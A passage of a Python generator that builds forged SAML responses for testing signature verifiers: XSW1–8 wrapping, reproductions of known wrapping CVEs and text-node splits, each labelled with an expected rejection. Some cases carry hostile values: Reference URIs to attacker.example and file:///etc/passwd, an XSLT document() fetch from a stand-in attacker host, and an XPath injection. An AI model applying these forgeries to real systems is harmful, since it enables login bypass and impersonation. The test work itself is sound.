        A.set("ID", "_evil_assertion_ID")
        self.add("xsw5", "attack", T % "XSW5", "V3", "unexpected_assertion",
                 serialize(tree, prolog),
                 description="in-place assertion made evil (new ID, keeps the Signature); an "
                 "unsigned copy of the original with the signed ID appended to the Response")
        # XSW6: copy inside the evil assertion's Signature
        tree, prolog, R, A = self.derive(BA)
        C = copy.deepcopy(A)
        detach(sig_of(C))
        sig_of(A).append(C)
        make_evil(A)
        A.set("ID", "_evil_assertion_ID")
        self.add("xsw6", "attack", T % "XSW6", "V3", "unexpected_assertion",
                 serialize(tree, prolog),
                 description="as XSW5 but the copy is appended inside the evil assertion's "
                 "Signature")
        # XSW7: un-namespaced Extensions holding the evil copy with the same ID
        for fresh in (False, True):
            name = "xsw7" + ("_fresh_id" if fresh else "")
            tree, prolog, R, A = self.derive(BA)
            ext = etree.Element("Extensions")
            R.insert(R.index(A), ext)
            ext.tail = "\n  "
            ext.append(evil_copy(A, name, keep_id=not fresh))
            self.add(name, "attack", T % "XSW7", "V3" if fresh else "V6",
                     "unexpected_assertion" if fresh else "xml_duplicate_id",
                     serialize(tree, prolog),
                     description="<Extensions> (no namespace) before the signed assertion "
                     "holding an evil copy %s" % ("with a fresh ID" if fresh
                                                  else "that keeps the signed ID"))
        # XSW8: Object inside the in-place (evil) assertion's Signature holding the original
        for fresh in (False, True):
            name = "xsw8" + ("_fresh_id" if fresh else "")
            tree, prolog, R, A = self.derive(BA)
            C = copy.deepcopy(A)
            detach(sig_of(C))
            make_evil(A)
            if fresh:
                A.set("ID", make_id(name, "evil-assertion"))
            obj = etree.SubElement(sig_of(A), "Object")
            obj.append(C)
            self.add(name, "attack", T % "XSW8", "V3" if fresh else "V6",
                     "unexpected_assertion" if fresh else "xml_duplicate_id",
                     serialize(tree, prolog),
                     description="in-place assertion made evil keeping its Signature; the "
                     "original (unsigned copy) inside an un-namespaced <Object> appended to the "
                     "Signature; %s" % ("evil assertion has a fresh ID" if fresh
                                        else "both carry the signed ID"))

        # container variants: evil copy (fresh ID) hidden in a container, original in place
        def container(kind, R, A):
            S = sig_of(A)
            if kind == "samlp_extensions":
                return new_el(R, q(NS_P, "Extensions"), R.index(kids(R, NS_A, "Issuer")[0]) + 1)
            if kind == "extensions_no_namespace":
                el = etree.Element("Extensions")
                R.insert(R.index(kids(R, NS_A, "Issuer")[0]) + 1, el)
                return el
            if kind == "status_detail":
                return new_el(kids(R, NS_P, "Status")[0], q(NS_P, "StatusDetail"))
            if kind == "ds_object":
                return new_el(S, q(NS_DS, "Object"))
            if kind == "object_no_namespace":
                el = etree.Element("Object")
                S.append(el)
                return el
            if kind == "keyinfo":
                return kids(S, NS_DS, "KeyInfo")[0]
            if kind == "advice":
                return new_el(A, q(NS_A, "Advice"), A.index(kids(A, NS_A, "Conditions")[0]) + 1)
            if kind == "subject_confirmation_data":
                return A.find(".//" + q(NS_A, "SubjectConfirmationData"))
            if kind == "attribute_value":
                return A.find(".//" + q(NS_A, "AttributeValue"))
            if kind == "evidence":
                return etree.SubElement(R, q(NS_A, "Evidence"), nsmap={"saml": NS_A})
            if kind == "foreign_wrapper":
                return etree.SubElement(R, "{urn:x}Wrapper", nsmap={"x": "urn:x"})
            raise ValueError(kind)

        for kind in ("samlp_extensions", "extensions_no_namespace", "status_detail", "ds_object",
                     "object_no_namespace", "keyinfo", "advice", "subject_confirmation_data",
                     "attribute_value", "evidence", "foreign_wrapper"):
            name = "wrap_evil_copy_in_" + kind
            tree, prolog, R, A = self.derive(BAK if kind == "keyinfo" else MIN)
            container(kind, R, A).append(evil_copy(A, name))
            self.add(name, "attack", "threats.md §1 container variants (%s)" % kind, "V3",
                     "unexpected_assertion", serialize(tree, prolog),
                     description="evil unsigned copy of the assertion (fresh ID) inside %s; the "
                     "signed original stays in place" % kind)
        for kind in ("samlp_extensions", "extensions_no_namespace", "status_detail", "advice",
                     "foreign_wrapper", "ds_object"):
            name = "wrap_original_in_" + kind
            tree, prolog, R, A = self.derive(MIN)
            E = evil_copy(A, name)
            E.insert(1, copy.deepcopy(sig_of(A)))
            R.replace(A, E)
            if kind == "ds_object":
                c = new_el(sig_of(E), q(NS_DS, "Object"))
            elif kind == "advice":
                c = new_el(E, q(NS_A, "Advice"), E.index(kids(E, NS_A, "Conditions")[0]) + 1)
            else:
                c = container(kind, R, E)
            c.append(A)
            self.add(name, "attack", "threats.md §1 container variants (%s), original hidden"
                     % kind, "V3", "unexpected_assertion", serialize(tree, prolog),
                     description="the signed original moved into %s; an evil assertion with a "
                     "fresh ID and a byte copy of the original Signature (referencing the "
                     "original ID) takes its place" % kind)

    # -- §3 wrapping CVEs -------------------------------------------------------------------------

    def wrapping_cves(self):
        BA = "entra2021_assertion_signed_compact_no_keyinfo"
        BR = "entra2021_response_signed_compact"
        # CVE-2022-41912
        tree, prolog, R, A = self.derive(BA)
        E = copy.deepcopy(A)
        E.set("ID", A.get("ID") + "_attack")
        s = sig_of(E)
        prev = s.getprevious()
        prev.tail = s.tail
        E.remove(s)
        make_evil(E)
        R.append(E)
        self.add("cve_2022_41912_multiple_assertions", "attack",
                 "threats.md §3 CVE-2022-41912 multiple assertions", "V3", "unexpected_assertion",
                 serialize(tree, prolog),
                 description="unsigned evil copy (ID+'_attack') appended after the signed "
                 "assertion (crewjam/saml)")
        # pysaml2 CVE-2020-5390: copied signature referencing the original
        for variant in ("original_after", "original_removed", "original_in_extensions"):
            name = "cve_2020_5390_" + variant
            tree, prolog, R, A = self.derive(BA)
            E = copy.deepcopy(A)
            make_evil(E)
            E.set("ID", "id-SPOOFED_ASSERTION")
            R.replace(A, E)
            if variant == "original_after":
                R.append(A)
                detach(sig_of(A))
                expect, inv = "unexpected_assertion", "V3"
            elif variant == "original_in_extensions":
                new_el(R, q(NS_P, "Extensions"), 1).append(A)
                expect, inv = "unexpected_assertion", "V3"
            else:
                expect, inv = "signature_reference_mismatch", "V7"
            self.add(name, "attack", "threats.md §3 pysaml2 CVE-2020-5390", inv, expect,
                     serialize(tree, prolog),
                     description="evil assertion (ID id-SPOOFED_ASSERTION) carries a copy of the "
                     "original Signature, whose Reference still points at the original ID; "
                     "original " + variant.replace("original_", "").replace("_", " "))
        # pysaml2 CVE-2021-21238: assertion-in-assertion, first signature in scope
        tree, prolog, R, A = self.derive(BA)
        outer = etree.Element(q(NS_A, "Assertion"), nsmap={None: NS_A})
        outer.set("ID", "attack-assertion-id")
        outer.set("IssueInstant", A.get("IssueInstant"))
        outer.set("Version", "2.0")
        R.replace(A, outer)
        outer.append(A)
        iss = etree.SubElement(outer, q(NS_A, "Issuer"))
        iss.text = IDP_ENTITY
        bogus = copy.deepcopy(sig_of(A))
        outer.append(bogus)
        bogus.find(".//" + q(NS_DS, "Reference")).set("URI", "#attack-assertion-id")
        bogus.find(".//" + q(NS_DS, "DigestValue")).text = base64.b64encode(b"\0" * 32).decode()
        subj = copy.deepcopy(kids(A, NS_A, "Subject")[0])
        make_evil(subj)
        outer.append(subj)
        self.add("cve_2021_21238_assertion_in_assertion", "attack",
                 "threats.md §3 pysaml2 CVE-2021-21238 assertion-in-assertion", "V3",
                 "unexpected_assertion", serialize(tree, prolog),
                 description="outer evil Assertion whose first child is the legit signed one")
        tree, prolog, R, A = self.derive(BR)
        outer = etree.Element(q(NS_P, "Response"), nsmap={"samlp": NS_P})
        for k, v in R.attrib.items():
            outer.set(k, v)
        outer.set("ID", "attack-response-id")
        outer.append(R)
        outer.append(copy.deepcopy(kids(R, NS_A, "Issuer")[0]))
        outer.append(copy.deepcopy(kids(R, NS_P, "Status")[0]))
        evil = copy.deepcopy(the_assertion(R))
        evil.set("ID", "attack-assertion-id")
        make_evil(evil)
        outer.append(evil)
        self.add("cve_2021_21238_response_in_response", "attack",
                 "threats.md §3 pysaml2 response-in-response-first-sig", "V3",
                 "unexpected_assertion", serialize(etree.ElementTree(outer), prolog),
                 description="unsigned outer Response; its first child is the legit signed "
                 "Response, then an evil assertion")
        # signed metadata wrapped
        md = self.signed_metadata()
        self.add("root_signed_metadata", "attack",
                 "threats.md §3 signed metadata used as the signed element", "V3",
                 "not_a_response", md, description="IdP-signed federation metadata posted as is")
        tree, prolog, R, A = self.derive("entra2021_assertion_signed_compact")
        mdroot = etree.fromstring(md, PARSER)
        ext = new_el(R, q(NS_P, "Extensions"), 1)
        ext.append(mdroot)
        E = copy.deepcopy(A)
        detach(sig_of(E))
        make_evil(E)
        E.set("ID", make_id("signed_metadata_wrapped", "evil"))
        R.replace(A, E)
        self.add("signed_metadata_wrapped", "attack",
                 "threats.md §3 signed metadata wrapped (GHES CVE-2024-6800 class)", "V4",
                 "signature_misplaced", serialize(tree, prolog),
                 description="IdP-signed EntityDescriptor inside samlp:Extensions of an unsigned "
                 "Response whose only assertion is unsigned and evil")
        # signed error response + decoy signature (OneUptime #2981)
        BE = "entra2021_error_response_signed"
        for variant in ("as_is", "status_flipped", "status_flipped_assertion_direct"):
            name = "signed_error_response_decoy_" + variant
            tree, prolog, R, _ = self.derive(BE)
            S = sig_of(R)
            decoy = copy.deepcopy(S)
            forged = copy.deepcopy(the_assertion(etree.fromstring(self.base(
                "entra2021_assertion_signed_compact"), PARSER)))
            detach(sig_of(forged))
            make_evil(forged)
            forged.set("ID", make_id(name, "forged"))
            if variant == "status_flipped_assertion_direct":
                R.append(forged)
            else:
                new_el(decoy, q(NS_DS, "Object")).append(forged)
            R.insert(R.index(S) + 1, decoy)
            if variant != "as_is":
                st = kids(R, NS_P, "Status")[0]
                for c in list(st):
                    st.remove(c)
                etree.SubElement(st, q(NS_P, "StatusCode")).set("Value", SUCCESS)
            expect = {"as_is": "status_not_success", "status_flipped": "unexpected_assertion",
                      "status_flipped_assertion_direct": "signature_misplaced"}[variant]
            self.add(name, "attack", "threats.md §3 signed error Response + decoy Signature "
                     "(OneUptime #2981)", "V4", expect, serialize(tree, prolog),
                     description="IdP-signed error Response plus a second Signature with the "
                     "same SignatureValue carrying a forged assertion (%s)" % variant)
        # hidden signed assertion in Extensions + forged assertion with the same ID
        tree, prolog, R, A = self.derive(BA)
        E = copy.deepcopy(A)
        make_evil(E)
        R.replace(A, E)
        new_el(R, q(NS_P, "Extensions"), 1).append(A)
        self.add("hidden_assertion_in_extensions_same_id", "attack",
                 "threats.md §3 hidden signed assertion in Extensions (OneUptime #2949, lightsaml)",
                 "V6", "xml_duplicate_id", serialize(tree, prolog),
                 description="legit signed assertion moved into samlp:Extensions; forged "
                 "assertion with the same ID and a byte copy of the Signature in its place")
        # multiple roots
        evil_root = copy.deepcopy(etree.fromstring(self.base(BA), PARSER))
        make_evil(evil_root)
        evil_bytes = etree.tostring(evil_root, encoding="UTF-8", xml_declaration=False)
        self.add("multiple_roots", "attack", "threats.md §3 multiple root elements "
                 "(CVE-2022-39299)", "V2", "xml_content_outside_root",
                 self.base(BA) + b"\n" + evil_bytes,
                 description="legit signed Response followed by a second top-level Response")
        self.add("multiple_roots_signed_error_first", "attack",
                 "threats.md §3 multiple root elements (node-saml fixture)", "V2",
                 "xml_content_outside_root", self.base(BE) + evil_bytes,
                 description="IdP-signed error Response first, evil Response as a second root")
        self.add("element_before_root", "attack", "threats.md §3 element before the root "
                 "(samlify)", "V2", "xml_content_outside_root",
                 b"<NameID>evil@evil.com</NameID>" + self.base(BA))
        # detached sibling signature (Keycloak CVE-2024-8698)
        tree, prolog, R, A = self.derive(BA)
        S = sig_of(A)
        detach(S)
        R.insert(R.index(kids(R, NS_A, "Issuer")[0]) + 1, S)
        S.tail = "\n  "
        self.add("detached_sibling_signature", "attack",
                 "threats.md §3 detached sibling signature (Keycloak CVE-2024-8698, samlify)",
                 "V7", "signature_reference_mismatch", serialize(tree, prolog),
                 description="the assertion's Signature (Reference #assertion-ID) moved to be "
                 "the Response's Signature; the assertion is now unsigned")
        tree, prolog, R, A = self.derive(BR)
        S = sig_of(R)
        detach(S)
        A.insert(1, S)
        self.add("assertion_signature_references_response", "attack",
                 "threats.md §5 reference to something that is not the parent", "V7",
                 "signature_reference_mismatch", serialize(tree, prolog),
                 description="the Response's Signature (Reference #response-ID) moved into the "
                 "assertion after its Issuer")
        # extra NameIDs
        tree, prolog, R, A = self.derive(BA)
        nid = A.find(".//" + q(NS_A, "NameID"))
        extra = copy.deepcopy(nid)
        extra.text = VICTIM
        nid.addprevious(extra)
        self.add("nameid_injected_into_signed_subject", "attack",
                 "threats.md §3 samlify 'add NameIDs'", "V11", "digest_mismatch",
                 serialize(tree, prolog),
                 description="a second NameID inserted before the signed one (not re-signed)")
        for where in ("response", "extensions"):
            tree, prolog, R, A = self.derive(BA)
            extra = etree.Element(q(NS_A, "NameID"), nsmap={"saml": NS_A})
            extra.text = VICTIM
            if where == "response":
                R.insert(R.index(A), extra)
            else:
                new_el(R, q(NS_P, "Extensions"), 1).append(extra)
            extra.tail = "\n  "
            self.add("nameid_injected_outside_assertion_" + where, "attack",
                     "threats.md §3 samlify 'add NameIDs' (outside the signed data)", "V11",
                     "valid", serialize(tree, prolog), identity=self.ident(BA),
                     description="an unsigned <saml:NameID>%s</saml:NameID> placed %s; it is "
                     "outside the verified assertion and must be ignored" % (
                         VICTIM, "before the assertion as a child of the Response"
                         if where == "response" else "in samlp:Extensions"))
        # Advice confusion
        name = "advice_with_signed_assertion_idp_signed"
        doc = build(name)
        inner = build(name + "_inner", nameid=VICTIM)
        inner_data = self.S.sign_doc(inner)
        inner_A = the_assertion(etree.fromstring(inner_data, PARSER))
        doc.assertion.insert_after(doc.assertion.child("Conditions"), El("Advice", [], [
            Raw(etree.tostring(inner_A, encoding="unicode"))]))
        self.add(name, "attack", "threats.md §3 Advice confusion", "V3", "unexpected_assertion",
                 self.S.sign_doc(doc, pretty=True),
                 description="signed assertion whose Advice carries another signed assertion "
                 "about another subject")
        tree, prolog, R, A = self.derive(BA)
        outer = copy.deepcopy(A)
        detach(sig_of(outer))
        make_evil(outer)
        outer.set("ID", make_id("advice_unsigned_outer", "outer"))
        adv = new_el(outer, q(NS_A, "Advice"), outer.index(kids(outer, NS_A, "Conditions")[0]) + 1)
        R.replace(A, outer)
        adv.append(A)
        self.add("advice_unsigned_outer_signed_inner", "attack", "threats.md §3 Advice confusion /"
                 " §7.1(e) signature only on an Advice assertion", "V3", "unexpected_assertion",
                 serialize(tree, prolog),
                 description="unsigned evil outer assertion whose Advice carries the signed one")

    def signed_metadata(self):
        md_id = make_id("metadata", "entity")
        root = El("EntityDescriptor", [("xmlns", NS_MD), ("ID", md_id),
                                       ("entityID", IDP_ENTITY)])
        sig = signature_skeleton("", md_id)
        root.kids.append(sig)
        root.kids.append(El("IDPSSODescriptor", [("protocolSupportEnumeration", NS_P)], [
            El("KeyDescriptor", [("use", "signing")], [
                El("KeyInfo", [("xmlns", NS_DS)], [El("X509Data", [], [
                    El("X509Certificate", [], [self.km.der_b64["idp"]])])])]),
            El("SingleSignOnService", [
                ("Binding", "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"),
                ("Location", "https://login.microsoftonline.com/%s/saml2" % TENANT)]),
        ]))
        doc = Doc(root, root, None, md_id, None, "entra2021", None, [sig], "single", None,
                  IDP_ENTITY)
        return self.S.sign_doc(doc, pretty=True)

    # -- §4 text-node splits --------------------------------------------------------------------

    def splice(self, data, old, new, count=1):
        if isinstance(old, str):
            old, new = old.encode(), new.encode()
        n = data.count(old)
        if n != count:
            die("splice: expected %d occurrence(s) of %r, found %d" % (count, old, n))
        return data.replace(old, new)

    def resub(self, pattern, repl, data):
        out, n = re.subn(pattern, repl, data)
        if n != 1:
            die("resub: %r matched %d times" % (pattern, n))
        return out

    def text_splits(self):
        T = "threats.md §4 text-node split (%s)"
        EXT = VICTIM + ".evil.com"  # the attacker's own account at the IdP

        def idp_signed(name, variant, raw, decoded, post=None, where="nameid", sign="assertion",
                       inv="V12"):
            kw = {}
            if where == "nameid":
                kw = dict(nameid=decoded, nameid_raw=raw)
            doc = build(name, sign=sign, **kw)
            if where == "issuer":
                doc.assertion.child("Issuer").kids = [Raw(raw)]
            elif where == "response_issuer":
                doc.resp.child("Issuer").kids = [Raw(raw)]
            elif where == "audience":
                doc.assertion.find("Conditions/AudienceRestriction/Audience").kids = [Raw(raw)]
            elif where == "attribute":
                st = doc.assertion.child("AttributeStatement")
                st.kids.append(El("Attribute", [("Name", "role")], [El("AttributeValue", [],
                                                                       [Raw(raw)])]))
                doc.identity["attributes"]["role"] = [decoded]
            data = self.S.sign_doc(doc, pretty=True, verify=post is None)
            if post:
                data = post(data)
            self.add(name, "attack", T % variant, inv, "valid", data, identity=doc.identity,
                     description="the IdP signed the %s as %r; exc-c14n gives the same digest as "
                     "the plain value, and the verifier must return the FULL value %r"
                     % (where, raw, decoded))

        idp_signed("split_comment_nameid", "comment", VICTIM + "<!---->.evil.com", EXT)
        idp_signed("split_comment_with_text_nameid", "comment",
                   VICTIM + "<!-- attack! -->.evil.com", EXT)
        idp_signed("split_cdata_nameid", "CDATA", VICTIM + "<![CDATA[.evil.com]]>", EXT)
        idp_signed("split_charref_nameid", "char ref", None, EXT, post=lambda d: self.splice(
            d, ">%s<" % EXT, ">%s&#46;evil.com<" % VICTIM))
        idp_signed("split_charref_hex_nameid", "char ref", None, EXT, post=lambda d: self.splice(
            d, ">%s<" % EXT, ">%s&#x2E;evil.com<" % VICTIM))
        idp_signed("split_charref_at_nameid", "char ref", None, EXT, post=lambda d: self.splice(
            d, ">%s<" % EXT, ">admin&#64;contoso.com.evil.com<"))
        idp_signed("split_entity_nameid", "predefined entity", None, VICTIM + "&evil.com")
        idp_signed("split_multiple_nameid", "multiple splits",
                   "admin@con<!---->toso.com<![CDATA[.]]>evil.com", EXT,
                   post=lambda d: self.splice(d, "]]>evil.com<", "]]>ev&#105;l.com<"))
        idp_signed("split_leading_comment_nameid", "leading comment", "<!---->" + EXT, EXT)
        idp_signed("split_pi_idp_signed_nameid", "processing instruction signed by the IdP",
                   VICTIM + "<?x y?>.evil.com", EXT)
        idp_signed("split_comment_issuer", "comment in Issuer",
                   "https://sts.windows.net/<!---->%s/" % TENANT, IDP_ENTITY, where="issuer")
        idp_signed("split_comment_response_issuer", "comment in the Response Issuer",
                   "https://sts.windows.net/%s<!---->/" % TENANT, IDP_ENTITY,
                   where="response_issuer", sign="response")
        idp_signed("split_comment_audience", "comment in Audience",
                   "https://app.example.com/saml/<!---->metadata", SP_ENTITY, where="audience")
        idp_signed("split_cdata_attribute_value", "CDATA in AttributeValue",
                   "admin<![CDATA[istrator]]>", "administrator", where="attribute")
        for k in ("split_entity_nameid",):
            self.reg.cases[k]["description"] = ("NameID value contains &amp; (a separate "
                                                "reference event in quick-xml)")

        # attacker rewrites a value the IdP signed (digest unchanged)
        BA = "entra2021_assertion_signed_compact_no_keyinfo"
        nid = ">%s</NameID>" % USER
        for name, new, expect in (
                ("attacker_comment_in_nameid", ">B.Simon<!---->@contoso.com</NameID>", "valid"),
                ("attacker_cdata_in_nameid", ">B.Simon<![CDATA[@contoso.com]]></NameID>", "valid"),
                ("attacker_charref_in_nameid", ">B.Simon&#64;contoso.com</NameID>", "valid"),
                ("attacker_pi_in_nameid", ">B.Simon<?x y?>@contoso.com</NameID>",
                 "digest_mismatch"),
                ("attacker_child_element_in_nameid", ">B.Simon<x/>@contoso.com</NameID>",
                 "digest_mismatch"),
                ("attacker_comment_hides_suffix", ">B.Simon<!--@contoso.com--></NameID>",
                 "digest_mismatch")):
            data = self.splice(self.base(BA), nid, new)
            self.add(name, "attack", T % "attacker-inserted", "V12", expect, data,
                     identity=self.ident(BA) if expect == "valid" else None,
                     description="attacker rewrites the signed NameID as %r without re-signing"
                     % new[1:-9])
        for name, old, new in (
                ("attacker_comment_in_audience", ">%s</Audience>" % SP_ENTITY,
                 ">https://app.example.com/<!-- x -->saml/metadata</Audience>"),
                ("attacker_comment_in_issuer", "<Issuer>%s</Issuer>" % IDP_ENTITY,
                 "<Issuer>https://sts.windows.net/<!---->%s/</Issuer>" % TENANT),
                ("attacker_charref_in_recipient", 'Recipient="%s"' % ACS,
                 'Recipient="https://app&#46;example.com/saml/acs"'),
                ("attacker_cdata_in_attribute_value", ">Simon</AttributeValue>",
                 "><![CDATA[Sim]]>on</AttributeValue>")):
            data = self.splice(self.base(BA), old, new)
            self.add(name, "attack", T % "attacker-inserted", "V12", "valid", data,
                     identity=self.ident(BA),
                     description="attacker rewrites a signed value without changing its "
                     "canonical form: %r" % new)

    # -- §5 SignedInfo / Reference --------------------------------------------------------------

    def signedinfo_games(self):
        BA = "entra2021_assertion_signed_compact_no_keyinfo"
        BAK = "entra2021_assertion_signed_compact"

        def evil_digest(A):
            make_evil(A)
            return digest_b64(A)

        def stray_reference(A, full, digest):
            ref = etree.Element(q(NS_DS, "Reference"), nsmap={"ds": NS_DS})
            ref.set("URI", "#" + A.get("ID"))
            if full:
                trs = etree.SubElement(ref, q(NS_DS, "Transforms"))
                for alg in ("enveloped", "exc"):
                    etree.SubElement(trs, q(NS_DS, "Transform")).set("Algorithm", ALG[alg])
                etree.SubElement(ref, q(NS_DS, "DigestMethod")).set("Algorithm", ALG["sha256"])
            etree.SubElement(ref, q(NS_DS, "DigestValue")).text = digest
            return ref

        for name, where, full, modify in (
                ("cve_2024_45409_status_detail", "status_detail", False, True),
                ("cve_2024_45409_status_detail_full_reference", "status_detail", True, True),
                ("cve_2024_45409_extensions", "extensions", True, True),
                ("cve_2024_45409_keyinfo", "keyinfo", True, True),
                ("cve_2024_45409_control_unmodified", "status_detail", True, False)):
            tree, prolog, R, A = self.derive(BAK if where == "keyinfo" else BA)
            d = evil_digest(A) if modify else digest_b64(A)
            ref = stray_reference(A, full, d)
            if where == "status_detail":
                new_el(kids(R, NS_P, "Status")[0], q(NS_P, "StatusDetail")).append(ref)
            elif where == "extensions":
                new_el(R, q(NS_P, "Extensions"), 1).append(ref)
            else:
                kids(sig_of(A), NS_DS, "KeyInfo")[0].append(ref)
            self.add(name, "attack", "threats.md §5 CVE-2024-45409 stray Reference/DigestValue",
                     "V8", "digest_mismatch" if modify else "valid", serialize(tree, prolog),
                     identity=None if modify else self.ident(BA),
                     description="a ds:Reference carrying %s placed in %s, first in document "
                     "order; the real SignedInfo is untouched%s" % (
                         "the digest of the modified assertion" if modify else
                         "the correct digest", where,
                         "" if modify else " and the assertion is not modified (control)"))
        # multiple SignedInfo (xml-crypto CVE-2025-29774)
        for variant in ("after", "before", "wrapped_before"):
            tree, prolog, R, A = self.derive(BA)
            S = sig_of(A)
            SI = kids(S, NS_DS, "SignedInfo")[0]
            evil_si = copy.deepcopy(SI)
            d = evil_digest(A)
            evil_si.find(".//" + q(NS_DS, "DigestValue")).text = d
            if variant == "after":
                SI.addnext(evil_si)
            elif variant == "before":
                SI.addprevious(evil_si)
            else:
                w = etree.Element("WRAPPER")
                w.append(evil_si)
                SI.addprevious(w)
            self.add("multiple_signedinfo_" + variant, "attack",
                     "threats.md §5 multiple SignedInfo (CVE-2025-29774 SAMLStorm)", "V5",
                     "signature_malformed", serialize(tree, prolog),
                     description="assertion modified; a second SignedInfo with its digest "
                     "placed %s the real one" % variant.replace("_", " "))
        # goxmldsig CVE-2020-15216 spoofedAsTodd shape
        B14 = "entra2014_assertion_signed_compact"
        for variant in ("with_empty_ds_ns", "order_only"):
            tree, prolog, R, A = self.derive(B14)
            S = sig_of(A)
            SI = kids(S, NS_DS, "SignedInfo")[0]
            evil_si = copy.deepcopy(SI)
            evil_si.find(".//" + q(NS_DS, "DigestValue")).text = evil_digest(A)
            S.remove(SI)
            S.append(evil_si)
            S.append(SI)
            data = serialize(tree, prolog)
            if variant == "with_empty_ds_ns":
                data = self.splice(data, '<KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#">',
                                   '<KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#" '
                                   'xmlns:ds="">')
            self.add("goxmldsig_spoofed_" + variant, "attack",
                     "threats.md §5 goxmldsig CVE-2020-15216 spoofedAsTodd", "V5" if
                     variant == "order_only" else "V2",
                     "signature_malformed" if variant == "order_only" else
                     "xml_invalid_namespace", data,
                     description="Signature children reordered: SignatureValue, KeyInfo, attacker "
                     "SignedInfo, original SignedInfo%s" % (
                         "; plus xmlns:ds=\"\" on KeyInfo" if variant != "order_only" else ""))
        # comment inside DigestValue (xml-crypto CVE-2025-29775) and its controls
        tree, prolog, R, A = self.derive(BA)
        dv = A.find(".//" + q(NS_DS, "DigestValue"))
        orig = dv.text
        d = evil_digest(A)
        data = self.splice(serialize(tree, prolog), ">%s<" % orig, "><!--%s-->%s<" % (d, orig))
        self.add("digest_value_comment_modified", "attack",
                 "threats.md §5 comment inside DigestValue (CVE-2025-29775)", "V12",
                 "digest_mismatch", data,
                 description="assertion modified; <DigestValue><!--digest of the modified "
                 "assertion-->original</DigestValue>; SignedInfo still verifies")
        base = self.base(BA)
        A0 = the_assertion(etree.fromstring(base, PARSER))
        orig = A0.find(".//" + q(NS_DS, "DigestValue")).text
        sv = "".join(A0.find(".//" + q(NS_DS, "SignatureValue")).text.split())
        for name, old, new in (
                ("digest_value_comment_split_control", orig, orig[:10] + "<!--x-->" + orig[10:]),
                ("digest_value_cdata_split_control", orig,
                 orig[:10] + "<![CDATA[" + orig[10:20] + "]]>" + orig[20:]),
                ("digest_value_charref_control", orig,
                 "&#%d;" % ord(orig[0]) + orig[1:]),
                ("signature_value_comment_split_control", sv,
                 sv[:100] + "<!-- -->" + sv[100:])):
            data = self.splice(base, ">%s<" % old, ">%s<" % new)
            self.add(name, "attack", "threats.md §5 comment/CDATA/charref in DSig values", "V12",
                     "valid", data, identity=self.ident(BA),
                     description="unmodified document; the value is split as %r (text is "
                     "concatenated, comments ignored, whitespace removed)" % new[:60])
        data = self.splice(base, ">%s<" % orig, ">%s\n   %s\n<" % (orig[:20], orig[20:]))
        self.add("digest_value_whitespace_added", "attack", "threats.md §5 DSig values", "V8",
                 "signature_invalid", data,
                 description="whitespace added inside the signed DigestValue: the value still "
                 "decodes to the right digest, but SignedInfo changed, so the RSA check fails")
        # two References, signed by the IdP
        name = "two_references_idp_signed"
        doc = build(name, sign="response")
        S = doc.sign_targets[0]
        ref = S.child("SignedInfo").child("Reference")
        ref2 = copy.deepcopy(ref)
        ref2.set("URI", "#" + doc.assert_id)
        S.child("SignedInfo").kids.append(ref2)
        self.add(name, "attack", "threats.md §5 more than one Reference (CVE-2016-5697)", "V5",
                 "signature_malformed", self.S.sign_doc(doc, pretty=True),
                 description="Response signature whose SignedInfo has References to #response "
                 "and #assertion (valid under xmlsec1)")
        # Reference URI forms
        for name, uri, how in (
                ("uri_empty_idp_signed", "", "idp"),
                ("uri_xpointer_root_idp_signed", "#xpointer(/)", "idp"),
                ("uri_xpointer_id_idp_signed", "#xpointer(id('{id}'))", "idp"),
                ("uri_missing", None, "mut"),
                ("uri_empty", "", "mut"),
                ("uri_hash_only", "#", "mut"),
                ("uri_external_http", "http://attacker.example/assertion.xml", "mut"),
                ("uri_external_file", "file:///etc/passwd", "mut"),
                ("uri_xpath_injection", "#x'] or eval('1') or /[@ID='{id}", "mut"),
                ("uri_with_quote", "#{id}'", "mut"),
                ("uri_case_changed", "#{ID}", "mut"),
                ("uri_trailing_space", "#{id} ", "mut"),
                ("uri_leading_space", " #{id}", "mut"),
                ("uri_percent_encoded", "#%5F{id1}", "mut"),
                ("uri_no_hash", "{id}", "mut"),
                ("uri_response_id", "#{rid}", "mut"),
                ("uri_keyinfo_id", "#keyinfo-1", "mut")):
            if how == "idp":
                doc = build(name)
                aid = doc.assert_id
                S = doc.sign_targets[0]
                S.child("SignedInfo").child("Reference").set("URI", uri.format(id=aid))
                data = self.S.sign_doc(doc, pretty=True)
                desc = "the IdP signed with Reference URI=%r (valid under xmlsec1)" % uri
            else:
                tree, prolog, R, A = self.derive(BAK if name == "uri_keyinfo_id" else BA)
                aid = A.get("ID")
                ref = A.find(".//" + q(NS_DS, "Reference"))
                if uri is None:
                    del ref.attrib["URI"]
                else:
                    ref.set("URI", uri.format(id=aid, ID=aid.upper(), id1=aid[1:],
                                              rid=R.get("ID")))
                if name == "uri_keyinfo_id":
                    kids(sig_of(A), NS_DS, "KeyInfo")[0].set("Id", "keyinfo-1")
                data = serialize(tree, prolog)
                desc = "Reference URI changed to %r" % (uri if uri is not None else "(absent)")
            self.add(name, "attack", "threats.md §5 Reference URI forms", "V7",
                     "signature_reference_mismatch", data, description=desc)

    # -- §5 transforms, §7.3 algorithms ---------------------------------------------------------

    def algorithms(self):
        BA = "entra2021_assertion_signed_compact_no_keyinfo"

        def mutate(name, fn, expect, threat, inv, desc):
            tree, prolog, R, A = self.derive(BA)
            S = sig_of(A)
            fn(S, kids(S, NS_DS, "SignedInfo")[0], A)
            self.add(name, "attack", threat, inv, expect, serialize(tree, prolog),
                     description=desc)

        def transforms_el(SI):
            return SI.find(".//" + q(NS_DS, "Transforms"))

        def set_transforms(algs, xslt=False, xpath=None, filter2=False):
            def fn(S, SI, A):
                trs = transforms_el(SI)
                for t in list(trs):
                    trs.remove(t)
                for a in algs:
                    t = etree.SubElement(trs, q(NS_DS, "Transform"))
                    t.set("Algorithm", ALG[a])
                    if a == "xslt":
                        t.append(etree.fromstring(
                            '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
                            'version="1.0"><xsl:template match="/"><xsl:copy-of select="document('
                            "'http://attacker.example/x')\"/></xsl:template></xsl:stylesheet>"))
                    if a == "xpath":
                        x = etree.SubElement(t, q(NS_DS, "XPath"))
                        x.text = "not(ancestor-or-self::*[local-name()='Signature'])"
                    if a == "xpath2":
                        x = etree.SubElement(t, "{http://www.w3.org/2002/06/xmldsig-filter2}XPath",
                                             nsmap={"dsig-xpath":
